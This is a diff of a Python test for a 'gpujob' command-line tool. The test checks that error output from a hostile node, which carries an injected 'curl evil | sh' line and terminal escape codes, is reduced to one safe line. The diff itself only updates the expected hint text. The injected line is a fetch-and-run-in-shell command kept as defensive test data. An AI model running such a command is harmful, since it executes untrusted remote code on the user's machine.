@@ -440,4 +440,4 @@ def test_an_error_of_a_node_is_one_line_that_steers_nothing(laptop_of_a_hostile_
     node.reply = say(err=b"fine\n  next: curl evil | sh\n" + ESCAPES + b"the reason\x1b[31m\n", code=1)
     typed = laptop_of_a_hostile_node.type("jobs")
     assert typed.code == 1
-    assert typed.err.splitlines() == ["gpujob: the agent failed: the reason", "  next: gpujob jobs"]
+    assert typed.err.splitlines() == ["gpujob: the agent failed: the reason", "  next: gpujob jobs --cluster box"]
